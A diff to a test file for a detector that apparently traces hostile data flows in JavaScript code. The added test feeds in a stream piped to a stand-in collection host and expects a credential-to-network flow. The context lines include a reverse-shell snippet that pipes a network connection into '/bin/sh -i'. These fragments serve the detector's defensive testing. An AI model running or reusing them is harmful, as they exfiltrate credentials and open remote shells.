@@ -12,6 +12,15 @@ describe('streams', () => {
     assert.deepEqual(run(`cp.spawn('node', ['/tmp/b.js']);`), []);
   });
 
+  it('that are tied together hand on what is written later', () => {
+    const tied = (write: string): readonly string[] =>
+      flowsOf(
+        `const p = new stream.PassThrough(); p.pipe(https.request('https://collect.invalid')); ${write} p.end();`,
+      );
+    assert.ok(tied('p.write(s);').includes('credential-file>network@collect.invalid'));
+    assert.deepEqual(tied(`p.write('nothing');`), []);
+  });
+
   it('flow into each of several things that a target may be', () => {
     const code = `const sh = os.EOL === x ? cp.spawn('cmd.exe', []) : cp.spawn('/bin/sh', ['-i']);
       const c = require('net').connect(1, 'load.invalid'); c.pipe(sh.stdin);`;
